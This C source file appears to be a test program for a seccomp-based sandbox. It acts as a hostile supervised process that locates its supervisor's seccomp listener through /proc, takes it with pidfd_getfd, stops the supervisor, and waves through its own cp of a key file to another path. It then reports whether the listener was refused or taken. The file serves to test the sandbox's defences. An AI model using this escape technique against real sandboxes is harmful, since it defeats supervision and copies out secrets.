/* A hostile guarded program: it tries to take the seccomp listener from
 * the guard that supervises it (its parent) with pidfd_getfd, and with it
 * to let its own exec of /usr/bin/cp $K $S through unchecked. It prints
 * "listener: refused (...)" when it cannot take the listener, and
 * "listener: taken" otherwise. */
#include <dirent.h>
#include <errno.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* findListener returns the guard's descriptor number of its listener. */
static int findListener(pid_t guard) {
	char dir[64], link[128], target[256];
	snprintf(dir, sizeof dir, "/proc/%d/fd", (int)guard);
	DIR *d = opendir(dir);
	if (d == NULL) return -1;
	int found = -1;
	struct dirent *e;
	while ((e = readdir(d)) != NULL && found < 0) {
		snprintf(link, sizeof link, "%s/%s", dir, e->d_name);
		ssize_t n = readlink(link, target, sizeof target - 1);
		if (n < 0) continue;
		target[n] = 0;
		if (strstr(target, "seccomp") != NULL) found = atoi(e->d_name);
	}
	int saved = errno;
	closedir(d);
	errno = saved;
	return found;
}

int main(void) {
	char *key = getenv("K"), *stolen = getenv("S");
	if (key == NULL || stolen == NULL) return 2;
	pid_t guard = getppid();
	int num = findListener(guard);
	if (num < 0) {
		printf("listener: refused (find: %s)\n", strerror(errno));
		return 0;
	}
	int pidfd = (int)syscall(SYS_pidfd_open, guard, 0);
	int listener = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, num, 0);
	if (listener < 0) {
		printf("listener: refused (getfd: %s)\n", strerror(errno));
		return 0;
	}
	printf("listener: taken\n");
	fflush(stdout);
	/* Stop the guard so that only we answer; a watchdog wakes it
	 * whatever happens to us. */
	pid_t watchdog = fork();
	if (watchdog == 0) {
		sleep(5);
		kill(guard, SIGCONT);
		_exit(0);
	}
	kill(guard, SIGSTOP);
	pid_t child = fork();
	if (child == 0) {
		execl("/usr/bin/cp", "cp", key, stolen, (char *)NULL);
		_exit(126);
	}
	struct seccomp_notif req;
	memset(&req, 0, sizeof req);
	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) == 0) {
		struct seccomp_notif_resp resp;
		memset(&resp, 0, sizeof resp);
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
	int status = 0;
	waitpid(child, &status, 0);
	kill(guard, SIGCONT);
	kill(watchdog, SIGKILL);
	waitpid(watchdog, NULL, 0);
	return 0;
}
